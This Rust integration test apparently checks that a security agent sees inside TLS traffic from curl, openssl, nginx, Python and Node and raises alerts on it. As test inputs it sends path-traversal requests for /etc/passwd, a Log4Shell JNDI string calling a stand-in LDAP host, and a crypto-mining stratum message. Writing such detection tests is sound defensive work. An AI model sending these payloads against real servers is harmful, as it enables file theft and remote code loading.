//! What is seen: who asks, who serves, with whom.

use std::{cell::RefCell, path::Path};

use serde_json::Value;
use tempfile::TempDir;

use crate::{
    PYTHON,
    agent::Agent,
    case::{Case, OUT, OUT_PATHS, blind, client, executable, server, text},
    node, programs,
    programs::{Python, Server},
    root::skipped,
    servers::program,
};

const SERVED: (&str, &str) = ("/index.html?{}", "/served.html?{}");

/// The servers, which are there before the agent is.
struct Servers {
    site: TempDir,
    nginx: Server,
    python: Server,
    plain: Server,
    bio: Server,
    node: Option<Server>,
}

impl Servers {
    fn start() -> Servers {
        let site = programs::site();
        let home = site.path();
        Servers {
            nginx: Server::nginx(home, "ssl"),
            python: Server::python(home),
            plain: Server::nginx(home, ""),
            bio: Server::openssl(home, "-WWW"),
            node: node().map(|node| Server::node(node, home)),
            site,
        }
    }
}

fn cases<'a>(servers: &'a Servers, kept: &'a RefCell<Python>) -> Vec<Case<'a>> {
    let (nginx, python) = (&servers.nginx, &servers.python);
    let at = ["/usr/sbin/nginx", "/usr/bin/nginx"]
        .into_iter()
        .find(|path| Path::new(path).exists())
        .unwrap();
    let (curl, openssl) = (program("curl", "curl"), program("openssl", "openssl"));
    let case = |name, ask: Box<dyn Fn(&str) + 'a>, ends| Case {
        name,
        rules: OUT,
        paths: OUT_PATHS,
        ask,
        ends,
    };
    let served = |case: Case<'a>| Case {
        rules: &["served"],
        paths: SERVED,
        ..case
    };
    let get = |server: &Server| {
        let address = server.address;
        Box::new(move |path: &str| programs::curl_https(address, path))
    };
    let mut cases = vec![
        // Its connection is older than the agent.
        case(
            "python-nginx",
            Box::new(|path: &str| kept.borrow_mut().get(path)),
            vec![client(PYTHON, nginx), server(at, nginx)],
        ),
        case("curl-nginx", get(nginx), vec![client(&curl, nginx), server(at, nginx)]),
        case(
            "openssl-nginx",
            Box::new(|path: &str| programs::openssl(nginx.address, path)),
            vec![client(&openssl, nginx), server(at, nginx)],
        ),
        case(
            "curl-python",
            get(python),
            vec![client(&curl, python), server(PYTHON, python)],
        ),
        // It reads and writes TLS as a stream of the library, not by the functions that programs call.
        case(
            "curl-openssl",
            get(&servers.bio),
            vec![client(&curl, &servers.bio), server(&openssl, &servers.bio)],
        ),
        served(case(
            "served-nginx",
            get(nginx),
            vec![client(&curl, nginx), server(at, nginx)],
        )),
        served(case(
            "served-python",
            get(python),
            vec![client(&curl, python), server(PYTHON, python)],
        )),
    ];
    cases.push(Case {
        rules: &["log4shell"],
        paths: ("/{}/jndi", "/{}/$%7Bjndi:ldap://192.0.2.9/a}"),
        ..case("log4shell", get(nginx), vec![client(&curl, nginx), server(at, nginx)])
    });
    if let (Some(node), Some(served_by)) = (node(), &servers.node) {
        // Node gives the library memory instead of a socket.
        cases.push(case(
            "node-nginx",
            Box::new(move |path: &str| programs::node(node, nginx.address, path)),
            vec![blind(client(node, nginx)), server(at, nginx)],
        ));
        cases.push(case(
            "curl-node",
            get(served_by),
            vec![client(&curl, served_by), blind(server(node, served_by))],
        ));
        let ends = vec![client(&curl, served_by), blind(server(node, served_by))];
        cases.push(served(case("served-node", get(served_by), ends)));
    }
    cases
}

#[test]
fn what_programs_encrypt_is_judged_at_both_ends() {
    if skipped() {
        return;
    }
    let servers = Servers::start();
    let kept = RefCell::new(Python::start(servers.nginx.address));
    kept.borrow_mut().get("/before");
    let agent = Agent::start("https = \"on\"");
    let cases = cases(&servers, &kept);
    cases.iter().for_each(|case| case.run(&agent));
    openssl_serves(&agent, &servers);
    payload(&agent, &servers);
    plain_is_not_tls(&agent, &servers);
    cases.iter().for_each(|case| case.check(&agent));
    only(&agent, &servers);
    off_and_on_again(&agent, &servers);
    let (live, replayed) = agent.end_and_replay("act-");
    assert!(live.len() > 20, "{}", live.len());
    assert!(
        live == replayed,
        "{} alerts live, {} replayed",
        live.len(),
        replayed.len()
    );
}

/// `openssl s_server`, which reads a request and answers what it is told to.
fn openssl_serves(agent: &Agent, servers: &Servers) {
    let mut server = Server::openssl(servers.site.path(), "-quiet");
    let openssl = executable(program("openssl", "openssl"));
    let mut curl = programs::curl_started(server.address, "/act-s_server_/../../etc/passwd");
    let by = || {
        agent
            .alerts("act-s_server_")
            .into_iter()
            .filter(|alert| text(alert, "/process/executable") == openssl)
            .count()
    };
    agent.wait("the alerts of openssl s_server", || by() == OUT.len());
    server.say("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    assert!(curl.wait().unwrap().success());
}

/// What is no HTTP is payload.
fn payload(agent: &Agent, servers: &Servers) {
    let address = servers.nginx.address;
    let told = || {
        agent
            .alerts(&address.to_string())
            .into_iter()
            .filter(|alert| alert["rule"] == "payload")
            .collect::<Vec<_>>()
    };
    programs::openssl_says(address, "{\"id\":1,\"method\":\"subscribe\"}\r\n\r\n");
    programs::openssl_says(address, "{\"id\":1,\"method\":\"mining.subscribe\"}\r\n\r\n");
    agent.wait("the alert about payload", || !told().is_empty());
    let told = told();
    assert_eq!(told.len(), 1);
    assert_eq!(text(&told[0], "/network/peer"), address.to_string());
    assert_eq!(text(&told[0], "/event"), "tcp.payload");
}

/// The same request, not encrypted.
fn plain_is_not_tls(agent: &Agent, servers: &Servers) {
    programs::curl_http(servers.plain.address, "/act-plain_/../../etc/passwd");
    agent.wait("the alerts about plain HTTP", || agent.alerts("act-plain_").len() >= 2);
    for alert in agent.alerts("act-plain_") {
        assert_eq!(
            (text(&alert, "/rule"), alert["network"]["tls"].is_null()),
            ("path-traversal", true)
        );
    }
}

/// `mode = "only"` holds for TLS as it does for what is not encrypted.
fn only(agent: &Agent, servers: &Servers) {
    agent.reload("https = \"on\"\nmode = \"only\"\nprocesses = [\"curl\"]");
    programs::curl_https(servers.nginx.address, "/act-only_/../../etc/passwd");
    programs::curl_https(servers.nginx.address, "/act-only-fence_/../../etc/passwd");
    agent.wait("curl's alerts", || agent.alerts("act-only-fence_").len() >= OUT.len());
    for marker in ["act-only_", "act-only-fence_"] {
        let by: Vec<Value> = agent.alerts(marker);
        assert!(
            by.iter().all(|alert| text(alert, "/process/name") == "curl"),
            "{marker}"
        );
        assert_eq!(by.len(), OUT.len(), "{marker}");
    }
}

/// Nothing is attached, and nothing seen, while it is off; and it can be switched on again without the capabilities of the start.
fn off_and_on_again(agent: &Agent, servers: &Servers) {
    let tls = || {
        agent
            .attached()
            .into_iter()
            .filter(|hook| hook.starts_with("tls"))
            .collect::<Vec<_>>()
    };
    assert!(!tls().is_empty());
    agent.reload("https = \"off\"");
    agent.wait("the hooks to be detached", || tls().is_empty());
    programs::curl_https(servers.nginx.address, "/act-off_/../../etc/passwd");
    programs::curl_http(servers.plain.address, "/act-fence_/../../etc/passwd");
    agent.wait("the alerts about plain HTTP", || agent.alerts("act-fence_").len() >= 2);
    assert_eq!(agent.alerts("act-off_"), Vec::<Value>::new());
    agent.reload("https = \"on\"");
    let mut turn = 0;
    agent.wait("HTTPS to be seen again", || {
        turn += 1;
        programs::curl_https(servers.nginx.address, &format!("/again-{turn}/../../etc/passwd"));
        agent.alerts("/again-").len() >= 2
    });
}
